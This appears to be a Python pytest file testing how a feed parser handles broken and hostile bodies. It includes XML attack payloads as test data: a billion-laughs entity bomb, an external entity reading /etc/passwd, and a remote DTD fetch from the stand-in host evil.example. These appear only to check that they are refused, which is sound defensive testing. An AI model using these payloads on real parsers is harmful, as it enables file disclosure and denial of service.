"""Broken and hostile feed bodies: a reason, or as many items as can be read."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.core.feeds.bodies import entry, items, read, rss


@pytest.mark.parametrize(
    ("body", "problem", "detail"),
    [
        (b"", "empty", ""),
        (b" \n\t ", "empty", ""),
        (b"\xef\xbb\xbf", "empty", ""),
        ("<!DOCTYPE html><html><head><title>Just a moment…</title></head></html>", "not_a_feed", "Just a moment…"),
        ("<html><body><rss>no</rss></body></html>", "not_a_feed", "HTML"),
        ("<?xml version='1.0'?><opml><outline xmlUrl='https://a.example/'/></opml>", "not_a_feed", "opml"),
        (b"/etc/passwd", "not_a_feed", "/etc/passwd"),
        (b"https://faro.example/other.xml", "not_a_feed", "https"),
        (b"\x1f\x8b\x08\x00garbage", "not_a_feed", ""),
        (b"PK\x03\x04" + b"\x00" * 100, "not_a_feed", ""),
        ('{"a": 1}', "not_a_feed", "JSON"),
        ('{"version": "https://jsonfeed.org/version/1", "items": 5}', "not_a_feed", "items"),
        ('{"version": "https://jsonfeed.org/version/1", "items": [', "not_a_feed", "not JSON"),
        ('{"items":' + "[" * 100_000, "not_a_feed", "JSON"),
        ("<" * 100_000, "not_a_feed", ""),
        ("<!DOCTYPE " * 10_000, "not_a_feed", ""),
        ("<!--" * 50_000, "not_a_feed", ""),
        ("<?xml " * 50_000, "not_a_feed", ""),
    ],
)  # fmt: skip
def test_bodies_that_are_not_feeds(body: bytes | str, problem: str, detail: str) -> None:
    parsed = read(body)
    assert parsed.problem == problem
    assert detail in parsed.detail
    assert not parsed.entries


def test_a_body_that_is_a_path_is_not_opened(tmp_path: Path) -> None:
    secret = tmp_path / "secret.xml"
    secret.write_text(rss(entry(1)))
    assert read(str(secret)).problem == "not_a_feed"
    assert read(f"file://{secret}").problem == "not_a_feed"


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]>',
        f'<!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
        "<!DOCTYPE rss [" + "".join(f'<!ENTITY e{n} "x">' for n in range(400)) + "]>",
    ],
)
def test_entities_are_refused_before_they_are_parsed(doctype: str) -> None:
    assert read(rss(entry(1, "<description>&l9;&a;&x;</description>"), head=doctype)).problem == "entities"
    assert read(rss(entry(1), head=f"<!-- c --> {doctype}").encode("utf-16")).problem == "entities"


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.example/rss-0.91.dtd">',
        '<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY eacute "&#233;">]>',
        '<!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://www.w3.org/x.ent">\n]>',
    ],
)
def test_harmless_entities_of_old_templates_are_allowed(doctype: str) -> None:
    assert items(read(rss(entry(1).replace("Nota", "Not&eacute;"), head=doctype)))[0].title == "Noté 1"


def test_named_entities_of_html_need_no_declaration() -> None:
    assert items(read(rss(entry(1).replace("Nota", "S&iacute;&nbsp;&mdash; AT&amp;T"))))[0].title == "Sí — AT&T 1"


def test_unescaped_ampersands() -> None:
    assert items(read(rss(entry(1).replace("Nota", "A & B"), entry(2).replace("/2<", "/2?a=1&b=2<"))))[1].url.endswith(
        "/2?a=1&b=2"
    )


def test_a_truncated_feed_gives_its_first_entries() -> None:
    body = rss(*(entry(n) for n in range(20)))
    parsed = read(body[: len(body) // 2])
    assert "truncated" in parsed.notes
    assert 8 <= len(items(parsed)) <= 11


def test_a_feed_truncated_before_its_first_entry() -> None:
    assert read('<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>').problem == "truncated"


def test_a_script_warning_before_the_feed() -> None:
    assert len(items(read("<br />\n<b>Warning</b>: something in <b>/srv/x.php</b><br />\n" + rss(entry(1))))) == 1
    assert len(items(read("\n\n  " + rss(entry(1))))) == 1


def test_too_large() -> None:
    assert read(b"<rss>" + b" " * 50_000_000).problem == "too_large"


def test_deep_nesting() -> None:
    deep = "<a>" * 20_000 + "x" + "</a>" * 20_000
    assert len(items(read(rss(entry(1, f"<description>{deep}</description>"), entry(2))))) == 2


@given(st.binary(max_size=300))
def test_any_bytes_give_a_result(body: bytes) -> None:
    read(body)


@settings(deadline=None)  # the first invalid date loads the months of all languages
@given(st.text(max_size=60), st.text(max_size=60))
def test_any_text_in_a_feed_gives_a_result(title: str, link: str) -> None:
    read(
        rss(f"<item><title>{title}</title><link>{link}</link><pubDate>{title}</pubDate></item>").encode(
            "utf-8", "replace"
        )
    )
